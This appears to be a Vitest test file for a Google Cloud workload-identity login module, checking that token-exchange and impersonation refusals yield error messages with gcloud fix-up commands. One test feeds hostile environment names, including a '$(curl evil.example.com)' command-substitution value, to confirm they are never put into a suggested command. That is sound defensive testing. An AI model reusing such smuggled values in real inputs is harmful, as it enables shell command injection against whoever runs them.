import { expect, test } from "vitest";
import { googleError } from "../../../../src/clouds/gcp/google-error.ts";
import { exchangeRefusal, impersonationRefusal } from "../../../../src/clouds/gcp/login/refusals.ts";
import type { Words } from "../in-memory-google.ts";
import { refusal } from "../in-memory-google.ts";

const provider = "projects/42/locations/global/workloadIdentityPools/github/providers/posture";
const audience = `https://iam.googleapis.com/${provider}`;
const named = "repo:fernhollow/posture:environment:posture";
const numbered = "repo:fernhollow@8/posture@7:environment:posture";
const claims = {
  iss: "https://token.actions.githubusercontent.com",
  aud: audience,
  sub: named,
  subjects: [named, numbered],
};
const update =
  "gcloud iam workload-identity-pools providers update-oidc posture --location=global --workload-identity-pool=github --project=42";

/** An error of OAuth, as the library throws it. */
function oauth(error: string, description: string): Error {
  return Object.assign(new Error("request failed"), { response: { data: { error, error_description: description } } });
}

test.each<[string, string, string[]]>([
  [
    "unauthorized_client",
    "The given credential is rejected by the attribute condition.",
    [
      `${update} --attribute-condition="assertion.repository_id == '7' && assertion.environment == 'posture'"`,
      `${named} or ${numbered}`,
    ],
  ],
  [
    "invalid_request",
    "The size of mapped attribute google.subject exceeds the 127 bytes limit. Either modify your attribute mapping.",
    [
      `${update} --attribute-mapping="google.subject=assertion.repository_id,attribute.repository_id=assertion.repository_id,attribute.environment=assertion.environment"`,
      `assertion.sub of this job has ${named.length} bytes`,
    ],
  ],
  [
    "invalid_grant",
    "The audience in ID Token [x] does not match the expected audience.",
    [`${update} --allowed-audiences=${audience}`],
  ],
  [
    "invalid_grant",
    "The issuer in ID Token x does not match the expected ones: y.",
    [`${update} --issuer-uri=https://token.actions.githubusercontent.com`],
  ],
  ["invalid_grant", "ID Token issued at 1 is stale to sign-in.", ["the clocks of GitHub and Google are minutes apart"]],
  ["invalid_grant", "The ID Token signature is invalid.", ["/.well-known/openid-configuration must be reachable"]],
  [
    "invalid_target",
    'The target service indicated by the "audience" parameters is invalid.',
    [
      "providers describe posture --location=global --workload-identity-pool=github --project=42",
      "providers undelete posture",
    ],
  ],
  ["invalid_request", 'Invalid value for "audience".', ["with the number, not the id, of its project"]],
  [
    "invalid_request",
    "Could not obtain a value for google.subject from the given mapping.",
    ["refuses jobs without an environment"],
  ],
])("%s: %s says what would admit the job", (code, description, advice) => {
  const error = exchangeRefusal(oauth(code, description), { provider, audience, claims });
  expect(error).toMatchObject({ code: "denied", scope: "gcp", api: "sts.token" });
  expect(error.message).toContain(`${code}: ${description.replace(/\.$/, "")}.`);
  expect(error.message).toContain(`aud ${audience}, sub ${named}.`);
  for (const text of advice) expect(error.message).toContain(text);
});

test("a token that cannot be decoded is told, too", () => {
  const error = exchangeRefusal(oauth("unauthorized_client", "rejected by the attribute condition"), {
    provider,
    audience,
    claims: undefined,
  });
  expect(error.message).toContain("The job's token could not be decoded.");
  expect(error.message).toContain("assertion.repository_id == 'REPOSITORY_ID'");
});

test.each(["it's", "$(curl evil.example.com)", 'a" b', "a:b"])(
  "the environment %s is not put into a command",
  (name) => {
    const sub = `repo:fernhollow@8/posture@7:environment:${name}`;
    const error = exchangeRefusal(oauth("unauthorized_client", "rejected by the attribute condition"), {
      provider,
      audience,
      claims: { ...claims, sub, subjects: [sub] },
    });
    expect(error.message).toContain(
      `--attribute-condition="assertion.repository_id == '7' && assertion.environment == 'ENVIRONMENT'"`,
    );
  },
);

test("a connection that failed is no refusal, and its request is not kept", () => {
  const broken = Object.assign(new Error("getaddrinfo ENOTFOUND sts.googleapis.com"), {
    code: "ENOTFOUND",
    config: { data: "subject_token=secret" },
  });
  const error = exchangeRefusal(broken, { provider, audience, claims });
  expect(error).toMatchObject({
    code: "failed",
    message:
      "The job's token could not be exchanged for one of Google Cloud: getaddrinfo ENOTFOUND sts.googleapis.com.",
  });
  expect(error.cause).toBeUndefined();
});

test.each<[Words, string, RegExp]>([
  [
    refusal(403, "SERVICE_DISABLED", "Security Token Service API is disabled.", {
      consumer: "projects/42",
      service: "sts.googleapis.com",
    }),
    "failed",
    /Security Token Service API is disabled\. .*gcloud services enable sts\.googleapis\.com --project=42/,
  ],
  [refusal(429, "RATE_LIMIT_EXCEEDED", "Quota exceeded"), "throttled", /RATE_LIMIT_EXCEEDED: Quota exceeded\.$/],
  [{ status: 503, body: "busy" }, "failed", /request failed\.$/],
])("what is not about the token is told as of any API: %j", ({ status, body }, code, message) => {
  const thrown = Object.assign(new Error("request failed"), { response: { status, data: body } });
  expect(exchangeRefusal(thrown, { provider, audience, claims })).toMatchObject({
    code,
    message: expect.stringMatching(message),
  });
});

const serviceAccount = "posturegate@shop-prod.iam.gserviceaccount.com";
const denied = refusal(
  403,
  "IAM_PERMISSION_DENIED",
  "Permission 'iam.serviceAccounts.getAccessToken' denied on resource (or it may not exist).",
);

function errorOf({ status, body }: Words) {
  return googleError(status, typeof body === "string" ? body : JSON.stringify(body), new Headers());
}

test("a service account that the job may not act as says who must be let in, by attribute or in both forms of sub", () => {
  const error = impersonationRefusal(errorOf(denied), { serviceAccount, provider, claims });
  const pool = "iam.googleapis.com/projects/42/locations/global/workloadIdentityPools/github";
  expect(error).toMatchObject({ code: "denied", permission: "iam.serviceAccounts.getAccessToken" });
  expect(error.message).toContain(
    `gcloud iam service-accounts add-iam-policy-binding ${serviceAccount} --project=shop-prod --role=roles/iam.workloadIdentityUser --member="principalSet://${pool}/attribute.repository_id/7"`,
  );
  expect(error.message).toContain(`principal://${pool}/subject/${named} or principal://${pool}/subject/${numbered}`);
});

test.each<[Words, string | undefined, string, RegExp]>([
  [denied, undefined, "denied", /--role=roles\/iam\.serviceAccountTokenCreator/],
  [
    refusal(404, "NOT_FOUND", "Not found; Gaia id not found"),
    provider,
    "denied",
    /There is no service account of this address/,
  ],
  [
    refusal(403, "SERVICE_DISABLED", "IAM Service Account Credentials API is disabled.", { consumer: "projects/42" }),
    provider,
    "failed",
    /gcloud services enable iamcredentials\.googleapis\.com --project=42/,
  ],
  [refusal(503, "UNAVAILABLE", "busy"), provider, "failed", /could not be acted as: UNAVAILABLE: busy/],
])("what else stops an impersonation says what to do: %j", (words, by, code, message) => {
  expect(impersonationRefusal(errorOf(words), { serviceAccount, provider: by, claims })).toMatchObject({
    code,
    message: expect.stringMatching(message),
  });
});
